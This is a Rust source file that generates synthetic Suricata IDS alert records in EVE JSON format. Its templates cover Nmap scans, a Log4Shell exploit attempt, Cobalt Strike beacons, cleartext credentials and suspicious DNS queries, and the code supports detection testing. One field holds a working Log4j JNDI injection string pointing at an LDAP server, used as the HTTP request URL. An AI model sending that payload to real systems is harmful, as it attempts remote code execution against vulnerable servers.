//! Suricata EVE alert generator.
//!
//! Produces `event_type: "alert"` EVE JSON records. Each template pins the
//! signature metadata and the protocol shape of the flow; addresses, ports
//! and counters are randomized per event.

use super::{Generator, fake, to_json};
use crate::error::GenerateError;
use crate::event::{EventFormat, EventTemplate, EventType, Fields};
use chrono::{DateTime, SecondsFormat, Utc};
use serde_json::{Value, json};

pub const TYPE_ID: &str = "suricata";

/// Per-template signature and protocol shape.
struct Signature {
    sid: u64,
    rev: u64,
    signature: &'static str,
    category: &'static str,
    severity: u64,
    proto: &'static str,
    app_proto: &'static str,
    dest_port: u16,
    inbound: bool,
}

fn signature_for(template_id: &str) -> Signature {
    match template_id {
        "et-scan-nmap" => Signature {
            sid: 2009582,
            rev: 3,
            signature: "ET SCAN NMAP -sS window 1024",
            category: "Attempted Information Leak",
            severity: 2,
            proto: "TCP",
            app_proto: "failed",
            dest_port: 22,
            inbound: true,
        },
        "et-exploit-log4j" => Signature {
            sid: 2034647,
            rev: 2,
            signature: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
            category: "Attempted Administrator Privilege Gain",
            severity: 1,
            proto: "TCP",
            app_proto: "http",
            dest_port: 8080,
            inbound: true,
        },
        "et-malware-cobalt-strike" => Signature {
            sid: 2032749,
            rev: 1,
            signature: "ET MALWARE Cobalt Strike Beacon Observed",
            category: "A Network Trojan was detected",
            severity: 1,
            proto: "TCP",
            app_proto: "http",
            dest_port: 443,
            inbound: false,
        },
        "et-policy-cleartext-creds" => Signature {
            sid: 2006380,
            rev: 14,
            signature: "ET POLICY Outgoing Basic Auth Base64 HTTP Password detected unencrypted",
            category: "Potential Corporate Privacy Violation",
            severity: 1,
            proto: "TCP",
            app_proto: "http",
            dest_port: 80,
            inbound: false,
        },
        _ => Signature {
            sid: 2027863,
            rev: 4,
            signature: "ET INFO Observed DNS Query to .top TLD",
            category: "Potentially Bad Traffic",
            severity: 2,
            proto: "UDP",
            app_proto: "dns",
            dest_port: 53,
            inbound: false,
        },
    }
}

pub struct SuricataGenerator {
    descriptor: EventType,
    templates: Vec<EventTemplate>,
}

impl SuricataGenerator {
    pub fn new() -> Self {
        let templates = vec![
            EventTemplate::new(
                "et-scan-nmap",
                "ET SCAN Nmap SYN scan",
                "Reconnaissance",
                "2009582",
                EventFormat::Json,
                "Inbound Nmap SYN scan against SSH",
            ),
            EventTemplate::new(
                "et-exploit-log4j",
                "ET EXPLOIT Log4j JNDI injection",
                "Exploit",
                "2034647",
                EventFormat::Json,
                "Log4Shell JNDI lookup in an HTTP request header",
            ),
            EventTemplate::new(
                "et-malware-cobalt-strike",
                "ET MALWARE Cobalt Strike beacon",
                "Command and Control",
                "2032749",
                EventFormat::Json,
                "Outbound Cobalt Strike beacon check-in",
            ),
            EventTemplate::new(
                "et-policy-cleartext-creds",
                "ET POLICY Cleartext credentials",
                "Policy Violation",
                "2006380",
                EventFormat::Json,
                "HTTP Basic auth sent over plaintext",
            ),
            EventTemplate::new(
                "et-dns-suspicious-tld",
                "ET INFO DNS query to .top TLD",
                "Suspicious Traffic",
                "2027863",
                EventFormat::Json,
                "DNS lookup of a domain under a commonly abused TLD",
            ),
        ];

        let descriptor = EventType {
            id: TYPE_ID.to_string(),
            name: "Suricata IDS Alert".to_string(),
            category: "Network Intrusion Detection".to_string(),
            description: "Suricata EVE JSON alert records".to_string(),
            event_ids: templates.iter().map(|t| t.event_id.clone()).collect(),
        };

        Self {
            descriptor,
            templates,
        }
    }

    fn app_layer(sig: &Signature) -> Option<(&'static str, Value)> {
        let url = if sig.sid == 2034647 {
            "/?x=${jndi:ldap://198.51.100.7:1389/a}"
        } else {
            "/index.php"
        };
        match sig.app_proto {
            "http" => Some((
                "http",
                json!({
                    "hostname": format!("{}.example.com", fake::hostname()),
                    "url": url,
                    "http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                    "http_method": "GET",
                    "protocol": "HTTP/1.1",
                    "status": 200,
                    "length": fake::count(200, 40_000),
                }),
            )),
            "dns" => Some((
                "dns",
                json!({
                    "type": "query",
                    "id": fake::count(1, 65_535),
                    "rrname": format!("{}.top", fake::hex_id(10)),
                    "rrtype": "A",
                    "tx_id": 0,
                }),
            )),
            _ => None,
        }
    }
}

impl Default for SuricataGenerator {
    fn default() -> Self {
        Self::new()
    }
}

impl Generator for SuricataGenerator {
    fn describe_type(&self) -> &EventType {
        &self.descriptor
    }

    fn list_templates(&self) -> &[EventTemplate] {
        &self.templates
    }

    fn sourcetype(&self) -> &str {
        "suricata"
    }

    fn default_fields(&self, template: &EventTemplate, now: DateTime<Utc>) -> Fields {
        let sig = signature_for(&template.id);
        let (src_ip, dest_ip) = if sig.inbound {
            (fake::public_ip(), fake::private_ip())
        } else {
            (fake::private_ip(), fake::public_ip())
        };

        let mut fields = Fields::new();
        fields.insert(
            "timestamp".into(),
            json!(now.to_rfc3339_opts(SecondsFormat::Micros, false)),
        );
        fields.insert("flow_id".into(), json!(fake::flow_id()));
        fields.insert("in_iface".into(), json!("eth0"));
        fields.insert("event_type".into(), json!("alert"));
        fields.insert("src_ip".into(), json!(src_ip));
        fields.insert("src_port".into(), json!(fake::ephemeral_port()));
        fields.insert("dest_ip".into(), json!(dest_ip));
        fields.insert("dest_port".into(), json!(sig.dest_port));
        fields.insert("proto".into(), json!(sig.proto));
        fields.insert("app_proto".into(), json!(sig.app_proto));
        fields.insert(
            "alert".into(),
            json!({
                "action": "allowed",
                "gid": 1,
                "signature_id": sig.sid,
                "rev": sig.rev,
                "signature": sig.signature,
                "category": sig.category,
                "severity": sig.severity,
            }),
        );
        if let Some((key, value)) = Self::app_layer(&sig) {
            fields.insert(key.into(), value);
        }
        fields.insert(
            "flow".into(),
            json!({
                "pkts_toserver": fake::count(1, 40),
                "pkts_toclient": fake::count(0, 40),
                "bytes_toserver": fake::count(60, 20_000),
                "bytes_toclient": fake::count(0, 60_000),
                "start": (now - chrono::Duration::seconds(2)).to_rfc3339_opts(SecondsFormat::Micros, false),
            }),
        );
        fields
    }

    fn serialize(&self, fields: &Fields) -> Result<String, GenerateError> {
        to_json(TYPE_ID, fields)
    }
}
